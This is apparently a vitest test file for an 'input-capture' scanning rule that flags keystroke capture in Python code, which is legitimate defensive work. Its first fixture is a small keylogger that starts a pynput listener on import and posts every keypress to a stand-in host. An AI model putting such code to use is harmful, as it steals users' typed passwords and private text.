import { expect, it } from 'vitest'
import { sightingsOf } from '../code-rule.test-support.ts'
import { rule } from './input-capture.ts'

it('asks when it starts on import', async () => {
  expect(
    await sightingsOf(rule, {
      'demo/a.py':
        "import requests\nfrom pynput import keyboard\ndef pressed(k):\n    requests.post('https://example.org', data=str(k))\npressed(1)\nkeyboard.Listener(on_press=pressed).start()\n",
    }),
  ).toEqual(['confirm demo/a.py:6'])
})

it('leaves hot keys', async () => {
  expect(
    await sightingsOf(rule, { 'demo/a.py': 'from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n' }),
  ).toEqual([])
})
